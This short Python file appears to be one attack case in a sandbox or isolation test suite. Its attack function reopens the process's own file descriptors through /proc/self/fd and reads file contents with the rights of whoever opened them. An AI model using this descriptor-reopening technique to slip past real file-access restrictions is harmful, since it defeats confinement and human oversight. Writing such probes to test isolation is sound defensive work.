"""Opens its own descriptors again through /proc/self/fd, with the rights of whoever opened them."""

import contextlib
import os

CONTROL = "inside"


def attack(A):
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            path = f"/proc/self/fd/{name}"
            if os.readlink(path).startswith("/"):
                found.append(open(path, "rb").read(200).decode("latin-1"))
    return " ".join(found)
